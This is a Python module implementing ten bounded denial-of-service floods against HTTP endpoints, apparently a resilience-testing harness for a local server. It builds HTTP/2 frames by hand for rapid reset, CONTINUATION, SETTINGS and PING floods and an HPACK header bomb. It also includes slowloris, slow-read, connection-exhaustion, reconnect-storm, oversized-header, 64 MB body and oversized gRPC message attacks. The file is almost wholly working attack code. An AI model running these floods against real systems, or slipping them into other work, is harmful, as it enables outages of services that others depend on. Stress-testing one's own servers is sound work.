"""Ten floods, each over a bounded number of connections for a bounded time, against any port that speaks HTTP.

Of HTTP/2 they send frames by hand (RFC 9113), since no client library sends what these do.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import ssl
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
_PAUSE = 0.001
_CONNECTIONS = 100
_BLOCK = b"x" * 16_000


@dataclass
class Door:
    """Where a flood goes. `http2` and `http1` are the contexts for either (None: plaintext)."""

    address: tuple[str, int]
    host: str
    path: str
    http1: ssl.SSLContext | None = None
    http2: ssl.SSLContext | None = None
    content_type: str = "application/octet-stream"
    large: str = ""
    """A path with a large answer."""
    sent: int = 0
    """How many pieces of a flood have been sent."""
    _held: list[asyncio.StreamWriter] = field(default_factory=list)

    async def open(self, *, http2: bool, small: bool = False) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection; with `small`, one that takes little before it is read."""
        raw = socket.socket()
        raw.setblocking(False)
        if small:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        await asyncio.get_running_loop().sock_connect(raw, self.address)
        context = self.http2 if http2 else self.http1
        name = "localhost" if context else None
        return await asyncio.open_connection(sock=raw, ssl=context, server_hostname=name, limit=4096)

    def request(self, path: str = "", *lines: str, method: str = "GET") -> bytes:
        """The head of an HTTP/1.1 request, without its end."""
        head = (f"{method} {path or self.path} HTTP/1.1", f"Host: {self.host}", *lines)
        return "\r\n".join((*head, "")).encode()


Flood = Callable[[Door, float], Awaitable[None]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def fields(door: Door, method: bytes = b"\x82") -> bytes:
    """The pseudo-header fields of a request."""
    scheme = b"\x87" if door.http2 else b"\x86"
    return method + scheme + literal(b":path", door.path.encode()) + literal(b":authority", door.host.encode())


def literal(name: bytes, value: bytes) -> bytes:
    """A field that is not indexed; both texts are shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


async def _over(door: Door, until: float, begin: bytes, piece: Callable[[int], bytes], connections: int = 4) -> None:
    """Send pieces over a few connections of HTTP/2, and over new ones when they are closed."""

    async def one() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
                reader, writer = await door.open(http2=True)
                reading = asyncio.create_task(_read(reader))
                writer.write(PREFACE + frame(SETTINGS, 0, 0) + begin)
                number = 0
                while time.monotonic() < until and not reading.done():
                    writer.write(piece(number))
                    door.sent += 1
                    number += 1
                    async with asyncio.timeout(1):
                        await writer.drain()
                    await asyncio.sleep(_PAUSE)
                reading.cancel()
                writer.transport.abort()
            await asyncio.sleep(_PAUSE)

    await asyncio.gather(*(one() for _ in range(connections)))


async def _read(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


async def rapid_reset(door: Door, until: float) -> None:
    """Streams that are opened and reset at once."""

    def piece(number: int) -> bytes:
        stream = 2 * number + 1
        opened = frame(HEADERS, END_STREAM | END_HEADERS, stream, fields(door))
        return opened + frame(RST_STREAM, 0, stream, (8).to_bytes(4))

    await _over(door, until, b"", piece)


async def continuation(door: Door, until: float) -> None:
    """Headers that never end."""
    field_ = literal(b"x-more", b"y" * 100)
    await _over(door, until, frame(HEADERS, END_STREAM, 1, fields(door)), lambda _: frame(CONTINUATION, 0, 1, field_))


async def settings(door: Door, until: float) -> None:
    """Settings, each of which has to be acknowledged."""
    await _over(door, until, b"", lambda n: frame(SETTINGS, 0, 0, (4).to_bytes(2) + (65_535 + n % 9).to_bytes(4)) * 10)


async def ping(door: Door, until: float) -> None:
    """Pings, each of which has to be answered."""
    await _over(door, until, b"", lambda n: frame(PING, 0, 0, n.to_bytes(8)) * 10)


async def header_bomb(door: Door, until: float) -> None:
    """A kilobyte that becomes a megabyte: one long field is indexed, then named again and again."""
    long = b"\x40" + bytes([6]) + b"x-long" + b"\x7f\x81\x1e" + b"z" * 4000
    bomb = fields(door) + long + b"\xbe" * 1000

    def piece(number: int) -> bytes:
        return frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, bomb)

    await _over(door, until, b"", piece)


async def many_headers(door: Door, until: float) -> None:
    """The same in HTTP/1.1: a thousand headers, and one of a megabyte."""
    heads = [door.request("", *(f"x-{n}: y" for n in range(1000))) + b"\r\n", door.request("", "x: " + "y" * 1_000_000)]

    async def one() -> None:
        while time.monotonic() < until:
            for head in heads:
                await _said(door, head)

    await asyncio.gather(*(one() for _ in range(4)))


async def _said(door: Door, text: bytes) -> None:
    """Say something over a connection of its own and hear what comes back first."""
    with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
        async with asyncio.timeout(2):
            reader, writer = await door.open(http2=False)
            try:
                writer.write(text)
                door.sent += 1
                await writer.drain()
                await reader.read(1000)
            finally:
                writer.transport.abort()


async def slowloris(door: Door, until: float) -> None:
    """Requests whose headers come a byte at a time, over many connections."""

    async def one(number: int) -> None:
        with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
            _, writer = await door.open(http2=False)
            try:
                writer.write(door.request())
                door.sent += 1
                while time.monotonic() < until:
                    writer.write(b"x-%d: y\r\n" % number)
                    door.sent += 1
                    await asyncio.sleep(0.2)
            finally:
                writer.transport.abort()

    await asyncio.gather(*(one(number) for number in range(_CONNECTIONS)))


async def slow_read(door: Door, until: float) -> None:
    """Large answers that nobody reads."""

    async def one() -> None:
        with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
            _, writer = await door.open(http2=False, small=True)
            try:
                writer.transport.pause_reading()  # type: ignore[attr-defined]
                writer.write((door.request(door.large) + b"\r\n") * 20)
                door.sent += 1
                await asyncio.sleep(max(0.0, until - time.monotonic()))
            finally:
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(_CONNECTIONS // 2)))


async def connections(door: Door, until: float) -> None:
    """Connections that say nothing."""
    held: list[socket.socket] = []
    loop = asyncio.get_running_loop()
    try:
        while time.monotonic() < until:
            if len(held) < 5 * _CONNECTIONS:
                raw = socket.socket()
                raw.setblocking(False)
                held.append(raw)
                with contextlib.suppress(OSError, TimeoutError):
                    async with asyncio.timeout(1):
                        await loop.sock_connect(raw, door.address)
                door.sent += 1
            await asyncio.sleep(_PAUSE)
    finally:
        for raw in held:
            raw.close()


async def reconnect(door: Door, until: float) -> None:
    """Connections that are made whole, with hand-shake, and left."""

    async def one() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
                async with asyncio.timeout(2):
                    _, writer = await door.open(http2=door.http2 is not None)
                    door.sent += 1
                    writer.transport.abort()
            await asyncio.sleep(_PAUSE)

    await asyncio.gather(*(one() for _ in range(4)))


async def huge(door: Door, until: float) -> None:
    """Bodies of 64 MB, as fast as they are taken."""

    async def one() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
                _, writer = await door.open(http2=False)
                try:
                    lines = (f"Content-Length: {64 << 20}", f"Content-Type: {door.content_type}")
                    writer.write(door.request("", *lines, method="POST") + b"\r\n")
                    for _ in range((64 << 20) // len(_BLOCK)):
                        if time.monotonic() > until:
                            break
                        writer.write(_BLOCK)
                        door.sent += 1
                        async with asyncio.timeout(1):
                            await writer.drain()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(_PAUSE)

    await asyncio.gather(*(one() for _ in range(2)))


async def huge_messages(door: Door, until: float) -> None:
    """gRPC messages that say they have 64 MB, within what the flow control of HTTP/2 lets through."""
    post = fields(door, b"\x83") + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")

    def piece(number: int) -> bytes:
        stream = 2 * number + 1
        said = b"\0" + (64 << 20).to_bytes(4) + b"x" * 10_000
        return frame(HEADERS, END_HEADERS, stream, post) + frame(0, 0, stream, said)

    await _over(door, until, b"", piece)


HTTP1: dict[str, Flood] = {
    "slowloris": slowloris,
    "slow read": slow_read,
    "many headers": many_headers,
    "connections": connections,
    "reconnect storm": reconnect,
    "huge bodies": huge,
}
HTTP2: dict[str, Flood] = {
    "rapid reset": rapid_reset,
    "continuation": continuation,
    "settings": settings,
    "ping": ping,
    "header bomb": header_bomb,
}
XDS: dict[str, Flood] = {
    **HTTP2,
    "huge messages": huge_messages,
    "connections": connections,
    "reconnect storm": reconnect,
}
